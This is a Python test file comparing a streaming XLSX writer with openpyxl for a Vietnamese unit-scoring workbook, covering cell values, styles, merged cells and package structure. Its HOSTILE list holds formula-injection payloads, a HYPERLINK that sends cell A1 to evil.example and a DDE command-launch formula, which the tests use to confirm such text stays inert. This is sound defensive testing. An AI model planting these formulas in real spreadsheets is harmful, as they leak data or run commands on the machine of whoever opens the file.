"""The score workbook's own XLSX writer (``par/files/xlsx_stream.py``, ``stream_book.py``) against
openpyxl, the writer it replaced, on the same sheets (docs/decisions/0021).

``outputs._score_workbook_into`` fills an openpyxl ``Workbook`` (the reference, drawing every
unit's table with ``sheets._table``) or a :class:`StreamBook` (the appendix table from a template
per catalog); both workbooks are read back with openpyxl and compared cell by cell: values and
their types, number formats, fonts, fills, alignment, the quote prefix of formula-like text,
merged cells, row heights, column widths, frozen panes and sheet names. The inputs hold what
varies between sheets: long and formula-like names and notes, incomplete self-assessments, last
year's Ministry survey points, units not ranked, catalogs with and without a decision or the
illustrative warning, several unit types, and the empty workbook. The package itself must be
well-formed OOXML: every XML part parses, every part has its content type and relationship.
"""

from __future__ import annotations

import io
import math
import zipfile
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from scoring_bridge import SipasFigure, load_catalog, load_rule81
from survey_app.par.files.outputs import _score_workbook_into, score_workbook
from survey_app.par.files.points import LeafPoints
from survey_app.par.files.sheets import _new_book, _save
from survey_app.par.files.xlsx_stream import MAX_TEXT, XlsxStream, excel_text
from survey_app.par.report import ScoringInputs, ScoringUnit, compute
from tests.survey_app.par.test_par_fast_paths import assert_same_workbook

YEAR = 2023
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"f")',
    "+Ban Dân tộc",
    "-2",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
]
LONG = "Ủy ban nhân dân xã có tên rất dài " * 5  # a heading line over 90 characters: merged


def _color(font) -> str | None:
    rgb = font.color.rgb if font.color is not None else None
    return rgb[-6:] if isinstance(rgb, str) else None


def _fill(cell) -> str | None:
    return str(cell.fill.fgColor.rgb)[-6:] if cell.fill.fill_type == "solid" else None


def assert_same_styles(expected: bytes, actual: bytes) -> None:
    """Beyond :func:`assert_same_workbook`: every valued cell's type, font, fill, alignment and
    quote prefix, and the rows' heights."""
    old, new = load_workbook(io.BytesIO(expected)), load_workbook(io.BytesIO(actual))
    for name in old.sheetnames:
        a, b = old[name], new[name]
        for row_a, row_b in zip(a.iter_rows(), b.iter_rows(), strict=True):
            for x, y in zip(row_a, row_b, strict=True):
                if x.value is None:
                    continue
                where = (name, x.coordinate, x.value)
                assert y.data_type == x.data_type, where
                assert bool(y.quotePrefix) == bool(x.quotePrefix), where
                assert (bool(y.font.b), bool(y.font.i)) == (bool(x.font.b), bool(x.font.i)), where
                assert float(y.font.sz or 11) == float(x.font.sz or 11), where
                assert _color(y.font) == _color(x.font), where
                assert _fill(y) == _fill(x), where
                for attribute in ("wrap_text", "vertical", "horizontal"):
                    got = getattr(y.alignment, attribute)
                    assert got == getattr(x.alignment, attribute), (*where, attribute)
        heights = {r: d.height for r, d in a.row_dimensions.items() if d.height}
        assert {r: d.height for r, d in b.row_dimensions.items() if d.height} == heights, name


def both(*args, **options) -> tuple[bytes, bytes]:
    """(openpyxl's workbook, the streamed one) of the same ``score_workbook`` arguments."""
    book = _new_book()
    _score_workbook_into(book, *args, options.get("type_names"))
    return _save(book), score_workbook(*args, **options)


def odd_province() -> tuple:
    """``score_workbook``'s arguments for units whose sheets differ in every way they can."""
    commune = load_catalog("commune", YEAR).unwrap()
    department = replace(load_catalog("department", YEAR).unwrap(), illustrative=False, decision="")
    catalogs = {"commune": commune, "department": department}
    units = []
    for i in range(12):
        name = HOSTILE[i % len(HOSTILE)] if i % 3 == 0 else f'Xã & <số> "{i}"'
        if i == 4:
            name = LONG
        units.append(ScoringUnit(f"X{i:02d}", name, "commune", ranked=i % 5 != 2))
    units.append(ScoringUnit("=D1", "Sở @ Nội vụ", "department", ranked=True))
    units.append(ScoringUnit("S02", "Sở Tài chính", "department", ranked=True))
    points: dict[str, dict[str, float]] = {}
    own: dict[str, dict[str, float | None]] = {}
    previous: dict[str, dict[str, float]] = {}
    for n, unit in enumerate(units):
        catalog = catalogs[unit.unit_type]
        points[unit.code], own[unit.code] = {}, {}
        for k, leaf in enumerate(catalog.leaves):
            if leaf.source == "sipas":
                continue
            share = ((n * 7 + k * 3) % 11) / 10 if n % 4 else 0.5  # ties among every 4th
            if leaf.source == "ministry_survey" and n % 3 == 1:
                previous[unit.code] = previous.get(unit.code, {}) | {leaf.code: leaf.max_points / 3}
                continue
            points[unit.code][leaf.code] = round(leaf.max_points * share, 2)
            own[unit.code][leaf.code] = None if (n == 5 and k == 2) else leaf.max_points * 0.9
    inputs = ScoringInputs(
        YEAR,
        units,
        catalogs,
        {t: load_rule81(t, YEAR).unwrap() for t in catalogs},
        points,
        previous_points=previous,
        sipas={u.code: (SipasFigure(70 + i / 3, 65.0, 80.0), "tệp") for i, u in enumerate(units)},
        self_points=own,
    )
    report = compute(inputs)
    notes_ = ["-1 ghi chú", "=1+1", "Ghi chú thường " * 12]
    leaf_points = {}
    for code, score in report.scores.items():
        leaves = {}
        for j, leaf in enumerate(report.catalogs[score.unit_type].leaves):
            final = report.inputs.points.get(code, {}).get(leaf.code)
            mine = report.inputs.self_points.get(code, {}).get(leaf.code)
            note = HOSTILE[j % len(HOSTILE)] if j % 9 == 0 else ("" if j % 2 else "ghi chú")
            leaves[leaf.code] = LeafPoints(mine, final, note)
        leaf_points[code] = leaves
    names = {u.code: u.name for u in units}
    return (
        list(catalogs.values()),
        list(report.scores.values()),
        report.ranking,
        names,
        leaf_points,
        [*report.notes, *notes_],
    )


def test_the_streamed_workbook_reads_back_as_openpyxls(tmp_path: Path) -> None:
    args = odd_province()
    type_names = {"commune": "Xã, phường, thị trấn", "department": "Sở, ban, ngành"}
    expected, actual = both(*args, type_names=type_names)
    assert_same_workbook(expected, actual)
    assert_same_styles(expected, actual)
    book = load_workbook(io.BytesIO(actual), read_only=True)
    assert len(book.sheetnames) == 2 + 14  # a ranking sheet per type, a sheet per unit
    sheet = load_workbook(io.BytesIO(actual))["X04"]
    assert "A4:G4" in {str(r) for r in sheet.merged_cells.ranges}  # the long name's line
    # written to a file: the same bytes' contents
    out = tmp_path / "par.xlsx"
    assert score_workbook(*args, type_names=type_names, target=out) == b""
    assert_same_workbook(expected, out.read_bytes())


def test_formula_like_text_stays_inert() -> None:
    _, actual = both(*odd_province())
    book = load_workbook(io.BytesIO(actual))
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    assert cell.data_type == "s" and cell.quotePrefix, cell.value
                    seen.add(cell.value)
    assert set(HOSTILE) <= seen
    assert book["=D1"]["A1"].value.startswith("BẢNG CHẤM ĐIỂM")


def test_the_empty_workbook_says_so() -> None:
    expected, actual = both([], [], [], {}, {}, ["=note"])
    assert_same_workbook(expected, actual)
    assert_same_styles(expected, actual)
    assert load_workbook(io.BytesIO(actual)).sheetnames == ["Ghi chú"]


def test_the_package_is_well_formed_ooxml() -> None:
    _, data = both(*odd_province())
    package = zipfile.ZipFile(io.BytesIO(data))
    assert package.testzip() is None
    names = set(package.namelist())
    parsed = {n: ElementTree.fromstring(package.read(n)) for n in names}  # every part parses
    ns = "{http://schemas.openxmlformats.org/package/2006/content-types}"
    types = parsed["[Content_Types].xml"]
    overrides = {e.get("PartName") for e in types.iter(f"{ns}Override")}
    defaults = {e.get("Extension") for e in types.iter(f"{ns}Default")}
    for name in names - {"[Content_Types].xml"}:
        assert f"/{name}" in overrides or name.rsplit(".", 1)[1] in defaults, name
    rel = "{http://schemas.openxmlformats.org/package/2006/relationships}Relationship"
    targets = {"xl/" + e.get("Target") for e in parsed["xl/_rels/workbook.xml.rels"].iter(rel)}
    sheets = {n for n in names if n.startswith("xl/worksheets/")}
    assert sheets | {"xl/styles.xml", "xl/sharedStrings.xml"} == targets
    assert {e.get("Target") for e in parsed["_rels/.rels"].iter(rel)} == {"xl/workbook.xml"}


def test_cells_as_openpyxl_writes_them(tmp_path: Path) -> None:
    """Numbers with 16 significant digits, NaN as no value, booleans, control characters and
    over-long texts as XlsxWriter stored them (a literal ``_xHHHH_`` reads back as it was); a
    workbook needs a sheet."""
    path = tmp_path / "cells.xlsx"
    book = XlsxStream(path)
    values = [1 / 3, 2.0, 7, -0.0, math.nan, True, False, "a\x01b", "_x0041_", "x" * 40_000, " y"]
    cells = "".join(book.cell(book.ref(1, i), v) for i, v in enumerate(values, start=1))
    book.write_sheet("Một & <hai>", [f'<row r="1">{cells}</row>'], last=(1, len(values)))
    book.close()
    sheet = load_workbook(path)["Một & <hai>"]
    got = [c.value for c in sheet[1]]
    assert got[:4] == [float("%.16g" % (1 / 3)), 2, 7, 0]
    assert got[4] is None and got[5] is True and got[6] is False
    assert got[7] == "a_x0001_b" == excel_text("a\x01b")
    assert got[8] == "_x0041_" and len(got[9]) == MAX_TEXT and got[10] == " y"
    with pytest.raises(ValueError, match="needs a sheet"):
        XlsxStream(io.BytesIO()).close()
